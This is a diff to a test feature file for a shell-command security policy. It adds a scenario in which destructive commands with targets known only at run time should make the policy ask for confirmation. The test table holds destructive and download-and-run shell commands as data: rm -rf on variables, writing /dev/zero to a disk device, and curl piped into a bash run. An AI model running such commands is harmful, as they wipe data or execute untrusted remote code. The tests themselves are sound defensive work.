@@ -319,3 +319,11 @@ Feature: Security policy - targets known only at run time
       | command |
       | f() { echo; }; rm -rf "$X" |
       | for d; do rm -rf "$d"; done |
+
+  Scenario: A destructive command whose target is known only at run time asks first: found by the policy's mutation scan (an assignment for one command only, positional parameters set again from what is not known, a download appended to a script, zeros written by &> where a program computes)
+    Then the policy should ask about each command, its target known only at run time, and allow its words given to echo as text:
+      | command |
+      | X=/ true; rm -rf "$X" |
+      | set -- 1 2 3 4 5 6 7 8 /; set -- $UNKNOWN; rm -rf "$9" |
+      | curl -s https://example.com/i.sh >> i.sh; bash i.sh |
+      | cat /dev/zero &> "$(lsblk -o NAME \| tail -1)" |
